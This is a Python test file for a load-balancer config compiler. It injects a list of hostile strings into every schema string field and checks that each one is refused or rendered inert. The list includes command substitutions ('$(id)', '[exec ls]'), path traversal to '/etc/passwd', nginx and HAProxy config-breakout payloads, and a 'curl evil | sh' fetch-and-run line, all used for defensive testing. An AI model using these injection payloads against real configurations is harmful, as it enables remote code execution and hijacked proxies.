"""Hostile strings in every string field the schema defines, for every target.

The fields are read from the schema itself (every property, map key and list item whose schema is
a string), so a field added to the language is attacked without editing this file; a field whose
parent object no base document below holds fails `test_every_schema_string_field_is_attacked`.

Each (field, hostile string) case is either
- refused: located diagnostics (file:line), no traceback; or
- inert, per target: the target renders it (or refuses it with a located LBC8xx), the output has
  the same shape as the benign document's output (tests/structure.py: statements and words,
  JSON, Tcl words and substitutions), and the target's real validator accepts it.
For the validator, the inert cases of one hostile string are merged into one document per target
(every field that accepted it, at once), so the validators run ~70 times per target, not ~2,000.
"""
from __future__ import annotations

import collections
import copy
import json
import re
from concurrent.futures import ThreadPoolExecutor

import yaml

from lbc import targets
from lbc.pipeline import Options, check_file, render
from lbc.schema import _inline_refs, topology_schema

from structure import shape
from validators import VALIDATORS, validate_output

HOSTILE = [
    # line breaks and control characters: the classic way out of a quoted value
    "a\nb", "ok\n", "\nok", "a\rb", "ok\r\n", "a\x00b", "a\tb", "a\x0bb", "a\x0cb", "a\x1bb", "a\x7fb", "a\x85b",
    "a\u2028b", "a\u2029b", "a\u202eb", "a\u2066b",
    # quotes and the characters each config language gives meaning to
    'a"b', "a'b", "'", '"', "a`b", "a{b", "a}b", "{", "}", "{}", "a;b", ";", "a#b", "#", "a\\b", "\\", "a\\",
    "\\n", "\\x41", "\\u005b", "$host", "${HOME}", "$", "a$", "$(id)", "`id`", "%[src]", "%[req.hdr(host),lower]",
    "%{+Q}o", "%d", "%%", "%LOCAL_REPLY_BODY%", "[exec ls]", "[", "]", "a]b", "a[b", "{{ x }}", "{% x %}",
    "]]>", "<![CDATA[", "a|b", "a&b", "<a>", "a b", " leading", "trailing ", "", "-leading", "--", "*",
    # the shapes of known injection reports (ingress-nginx PoC, the lbc issue's own cases)
    "InjectTest#;\n\n}\n}\n}\nload_module test;",
    'a.example.com;\n}\nserver { listen 127.0.0.1:10999; return 200 "injected"; }\nserver { #',
    "a.example.com }\n  http-request return status 200 string injected\n  #",
    'x" ; return 200 "y', "x' ; x '", "x\nlisten pwn\n  bind 127.0.0.1:2222\n  server ssh 127.0.0.1:22\n#",
    "x\nRUN curl evil | sh\n#", "ok\"}]} , {\"x\": \"", "\"; HTTP::respond 200 content pwned; #",
    # values a number or a name grammar might half-accept
    "010", "1:30", "0x10", "1e3", "-1", "0", "true", "null", "~", "*.example.com", "a..b", "1.2.3.4:80",
    "::1", "../../etc/passwd", "/etc/passwd",
    # non-ASCII and length
    "café", "日本", "🙂", "\u00a0", "\ufeff", "x" * 64, "x" * 1100,
]

BENIGN = {
    "lbc": 1, "name": "full", "description": "all string fields", "ignore": {"LBC106": "test fixture"},
    "vips": {"public": {"address": "127.0.0.10", "ignore": {"LBC106": "test fixture"}}},
    "certificates": {"c1": {"cert": "certs/c1.pem", "key": "certs/c1.key", "names": ["a.example.com"],
                            "ignore": {"LBC106": "test fixture"}}},
    "services": {"web": {
        "profile": "generic", "description": "web", "balance": "round-robin",
        "servers": [{"name": "w1", "address": "127.0.0.11", "port": 8080, "direct_host": "w1.example.com",
                     "state": "active", "ignore": {"LBC106": "test fixture"}},
                    {"name": "w2", "address": "127.0.0.12", "port": 8080, "direct_host": "w2.example.com"}],
        "health": {"http": {"path": "/health", "host": "a.example.com", "expect_body": "OK"}, "interval": "5s",
                   "timeout": "2s"},
        "stickiness": {"mode": "cookie", "cookie": {"name": "SRV", "max_age": "1h"}, "max_lifetime": "8h",
                       "idle_timeout": "30m"},
        "fallback": {"respond": {"body": "No sessions available", "content_type": "text/plain"}},
        "upstream_tls": {"ca": "certs/ca.pem", "verify_name": "a.example.com", "sni": "a.example.com"},
        "proxy_protocol": "none", "ignore": {"LBC106": "test fixture"},
    }},
    "listeners": [{"name": "https", "vip": "public", "port": 443,
                   "tls": {"mode": "bridge", "certificates": ["c1"], "client_ca": "certs/ca.pem",
                           "client_auth": "request", "min_version": "1.2", "profile": "intermediate",
                           "ciphers": ["ECDHE-ECDSA-AES128-GCM-SHA256", "ECDHE-RSA-AES128-GCM-SHA256"],
                           "ciphersuites": ["TLS_AES_128_GCM_SHA256", "TLS_AES_256_GCM_SHA384",
                                            "TLS_CHACHA20_POLY1305_SHA256"],
                           "curves": ["X25519", "prime256v1"]},
                   "timeouts": {"connect": "5s", "client": "30s", "server": "30s", "tunnel": "1h"},
                   "protocol": "http", "ignore": {"LBC106": "test fixture"},
                   "hsts": {"max_age": "365d", "include_subdomains": True, "preload": False},
                   "headers": {"request": {"set": {"X-Site": "a"}, "remove": ["X-Debug"]},
                               "response": {"set": {"X-Frame-Options": "DENY"}, "add": {"Cache-Control": "no-store"},
                                            "remove": ["X-Powered-By"]}},
                   "routes": [{"hosts": ["a.example.com"], "service": "web", "ignore": {"LBC106": "test fixture"}}]}],
}
# The alternatives BENIGN cannot hold at once (oneOf branches); each is BENIGN with one change.
VARIANTS = {
    "ports": ("services", "web", "servers", 0, "ports", {"default": 8080, "admin": 9090}),
    "fallback-server": ("services", "web", "fallback", {"server": {"address": "127.0.0.13", "port": 8080}}),
    "tcp-health": ("services", "web", "health", {"tcp": True, "port": "default"}),
    "pinned-route": ("listeners", 0, "routes", 0, {"hosts": ["a.example.com"], "service": "web", "server": "w1",
                                                   "port": "default"}),
    "path-routes": ("listeners", 0, "routes", [
        {"hosts": ["a.example.com"], "path_prefix": "/api/", "strip_prefix": True, "service": "web"},
        {"hosts": ["a.example.com"], "path_exact": "/health", "service": "web", "server": "w1"},
        {"hosts": ["a.example.com"], "service": "web"}]),
    "capacity": ("services", "web", "capacity", {"peak_sessions": 10, "peak_users": 10}),
    "pair": ("balancers", {
        "nodes": {"lb1": {"address": "127.0.0.2", "interface": "eth0", "priority": 150, "listeners": ["https"],
                          "pid_file": "/run/lbc-proxy.pid", "ignore": {"LBC106": "test fixture"}},
                  "lb2": {"address": "127.0.0.3", "interface": "eth0", "priority": 100}},
        "vrrp": {"public": {"router_id": 51, "advert_interval": "1s", "auth_pass": "pair51", "nodes": ["lb1", "lb2"],
                            "ignore": {"LBC106": "test fixture"}}},
        "ignore": {"LBC106": "test fixture"}}),
    # access logs and the admin endpoint (issue 15): a file, a syslog server, per listener and at the top
    "access-log-file": ("access_log", {"to": "file", "file": "logs/access.log", "format": "json"}),
    "access-log-syslog": ("listeners", 0, "access_log", {"to": "syslog", "format": "text", "syslog": {
        "address": "127.0.0.53", "port": 5514, "facility": "local3"}}),
    "access-log-top-syslog": ("access_log", {"to": "syslog", "syslog": {"address": "::1", "facility": "user"}}),
    "admin": ("admin", {"address": "127.0.0.1", "port": 9100, "ignore": {"LBC106": "test fixture"}}),
    "access": ("listeners", 0, "access", {"allow": ["127.0.0.0/8", "::1"], "deny": ["127.0.0.66/32"]}),
    "route-access": ("listeners", 0, "routes", [
        {"path_prefix": "/admin/", "service": "web", "access": {"allow": ["127.0.0.0/8", "::1"], "deny": ["127.0.0.66"]}},
        {"service": "web"}]),
    "rate-limit": ("listeners", 0, "rate_limit", {"requests_per_second": 10, "burst": 20}),
    # a plain-HTTP listener (first: the fields' walk takes the first list item) beside the HTTPS one,
    # redirecting to it except ACME's path (S27)
    "redirect-https": ("listeners", [{
        "name": "http", "vip": "public", "port": 80,
        "redirect_https": {"status": 308, "port": 443, "except": ["/.well-known/acme-challenge/"]},
        "routes": [{"path_prefix": "/.well-known/acme-challenge/", "service": "web"}]}, BENIGN["listeners"][0]]),
    # routes that answer with a redirect to another host (issue 15 item 2): the host, paths and names attacked
    "route-redirect": ("listeners", [{
        "name": "http", "vip": "public", "port": 80,
        "routes": [{"hosts": ["a.example.com"], "redirect": {"host": "new.example.com", "scheme": "https",
                                                              "port": 8443, "status": 301}},
                   {"path_prefix": "/old/", "redirect": {"host": "old.example.com", "scheme": "https", "status": 302}},
                   {"service": "web"}]}, BENIGN["listeners"][0]]),
}

# Several files (issue 17): an include of an empty fragment (written beside each topology by _check),
# and environments, which are not read without --env; a hostile path is refused (LBC005/LBC013).
BENIGN.update({"include": ["frag.yaml"], "environments": {"lab": "lab.yaml"}})
VARIANTS["environment-files"] = ("environments", {"lab": {"overlay": "lab.yaml", "values": ["values/lab.yaml"]}})
FRAGMENT = "lbc-fragment: 1\n"


def _base_docs() -> dict[str, dict]:
    docs = {"benign": BENIGN}
    for name, (*path, value) in VARIANTS.items():
        doc = copy.deepcopy(BENIGN)
        node = doc
        for p in path[:-1]:
            node = node[p]
        if path[-1] == "ports":
            node.pop("port", None)
        node[path[-1]] = value
        docs[name] = doc
    return docs


def schema_string_fields() -> list[tuple]:
    """Every string the schema allows, as a path with "*" for any map key or list index and a
    final ("key",) marker where the string is a map key."""
    schema = topology_schema()
    found: set[tuple] = set()

    def walk(node, path):
        if not isinstance(node, dict):
            return
        if node.get("type") == "string" or "pattern" in node or any(
                isinstance(v, str) for v in node.get("enum", ())):
            found.add(path)
        for sub in node.get("properties", {}).items():
            walk(sub[1], path + (sub[0],))
        if isinstance(node.get("additionalProperties"), dict):
            walk(node["additionalProperties"], path + ("*",))
            if "propertyNames" in node:
                found.add(path + (("key",),))
        if isinstance(node.get("items"), dict):
            walk(node["items"], path + ("*",))
        for key in ("oneOf", "anyOf", "allOf"):
            for sub in node.get(key, ()):
                walk(sub, path)
    walk(_inline_refs(schema, schema["$defs"]), ())
    return sorted(found, key=str)


def _concrete(doc, pattern: tuple) -> list[tuple]:
    """Paths in doc matching a schema path; the last key may be absent (it is then added)."""
    out = []

    def go(node, i, path):
        if i == len(pattern):
            out.append(path)
            return
        p = pattern[i]
        if p == ("key",):
            if isinstance(node, dict) and node:
                out.append(path + (("key", next(iter(node))),))
            return
        last = i == len(pattern) - 1
        if p == "*":
            items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
            for k, v in list(items)[:1]:
                go(v, i + 1, path + (k,))
        elif isinstance(node, dict) and (p in node or last):
            go(node.get(p), i + 1, path + (p,))
    go(doc, 0, ())
    return out


def _set(doc, path, value):
    node = doc
    for p in path[:-1]:
        node = node[p]
    last = path[-1]
    if isinstance(last, tuple):                     # rename a map key, keeping its place
        items = list(node.items())
        node.clear()
        node.update({(value if k == last[1] else k): v for k, v in items})
    else:
        node[last] = value


def cases() -> list[tuple[str, tuple]]:
    """(base document name, concrete path) for every schema string field."""
    out = []
    docs = _base_docs()
    for pattern in schema_string_fields():
        for name, doc in docs.items():
            paths = _concrete(doc, pattern)
            if paths:
                out.append((name, paths[0]))
                break
    return out


def test_base_documents_are_accepted(tmp_path):
    for name, doc in _base_docs().items():
        r = _check(tmp_path, doc)
        assert r.model is not None and not r.failed, (name, [d for d in r.diagnostics if d.fails])


def test_every_schema_string_field_is_attacked():
    covered = {str(p) for p in schema_string_fields() if any(_concrete(d, p) for d in _base_docs().values())}
    missing = [p for p in schema_string_fields() if str(p) not in covered]
    assert not missing, f"add these fields' parent objects to BENIGN or VARIANTS: {missing}"
    assert len(HOSTILE) >= 60 and len(cases()) >= 40


def _check(tmp_path, doc, name="topology.yaml", target=None):
    p = tmp_path / name
    p.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")
    (tmp_path / "frag.yaml").write_text(FRAGMENT, encoding="utf-8")
    return check_file(str(p), Options(), target)


def _located(diags) -> bool:
    return all(d.location.line >= 1 for d in diags)


TARGETS = sorted(targets.available())


def test_hostile_strings_are_refused_or_inert(tmp_path_factory):
    counts = collections.Counter({"injected": 0, "internal": 0, "validator-rejected": 0})
    problems: list[str] = []
    docs = _base_docs()
    base_out: dict[tuple, dict] = {}
    inert: dict[tuple, list] = collections.defaultdict(list)    # (base, hostile index, target) -> paths
    tmp = tmp_path_factory.mktemp("hostile")
    for base, path in cases():
        for h_i, hostile in enumerate(HOSTILE):
            doc = copy.deepcopy(docs[base])
            _set(doc, path, hostile)
            r = _check(tmp, doc)
            failing = [d for d in r.diagnostics if d.fails]
            if failing or r.model is None:
                counts["refused"] += len(TARGETS)
                if not failing or not _located(failing):
                    problems.append(f"{path}={hostile!r}: refused without a location: {failing}")
                continue
            for t in TARGETS:
                tgt = targets.get(t)
                rt = _check(tmp, doc, target=tgt)
                if any(d.fails for d in rt.diagnostics):
                    counts["refused"] += 1
                    if not _located([d for d in rt.diagnostics if d.fails]):
                        problems.append(f"{t} {path}={hostile!r}: refused without a location")
                    continue
                try:
                    files = render(rt.model, tgt)
                except Exception as e:  # an internal error: the case the issue reports
                    counts["internal"] += 1
                    problems.append(f"{t} {path}={hostile!r}: internal error {type(e).__name__}: {e}")
                    continue
                if (base, t) not in base_out:
                    base_out[(base, t)] = shape(t, render(_check(tmp, docs[base], target=tgt).model, tgt))
                # An empty value, or one made of word characters only, cannot leave its place, but may
                # rightly change the output's kind (a host name instead of an IP address, a path
                # shared with another field); the validator below still has to accept it.
                plain = re.fullmatch(r"[A-Za-z0-9._:/-]*", hostile) is not None
                if not plain and shape(t, files) != base_out[(base, t)]:
                    counts["injected"] += 1
                    problems.append(f"{t} {path}={hostile!r}: the output's structure changed")
                    continue
                counts["inert"] += 1
                inert[(base, h_i, t)].append(path)
    # the real validators, once per (base, hostile string, target) with every inert field set at once
    jobs = []
    for (base, h_i, t), paths in sorted(inert.items(), key=str):
        if t not in VALIDATORS:
            continue
        doc = copy.deepcopy(docs[base])
        for path in sorted(paths, key=lambda p: -len(p)):
            _set(doc, path, HOSTILE[h_i])
        jobs.append((base, h_i, t, doc, paths))

    def validate(job):
        base, h_i, t, doc, paths = job
        tgt = targets.get(t)
        work = tmp_path_factory.mktemp(f"v-{t}")
        r = _check(work, doc, target=tgt)
        if r.failed or r.model is None:  # merged values may clash (two equal names): one field at a time
            docs_one = []
            for path in paths:
                one = copy.deepcopy(docs[base])
                _set(one, path, HOSTILE[h_i])
                docs_one.append(one)
        else:
            docs_one = [doc]
        for one in docs_one:
            work = tmp_path_factory.mktemp(f"v-{t}")
            r = _check(work, one, target=tgt)
            ok, output = validate_output(t, render(r.model, tgt), work)
            if not ok:
                return f"{t} refused the output for {HOSTILE[h_i]!r}: {output[-600:]}"
        return None
    with ThreadPoolExecutor(max_workers=2) as pool:
        for problem in pool.map(validate, jobs):
            if problem:
                counts["validator-rejected"] += 1
                problems.append(problem)
    counts["cases"] = len(cases()) * len(HOSTILE) * len(TARGETS)
    counts["validator runs"] = len(jobs)
    print("hostile-input counts:", json.dumps(dict(sorted(counts.items()))))  # zeros included
    assert not problems, "\n".join(problems[:40])
    assert counts["cases"] == counts["refused"] + counts["inert"]
    assert counts["inert"] > 0 and counts["refused"] > 0
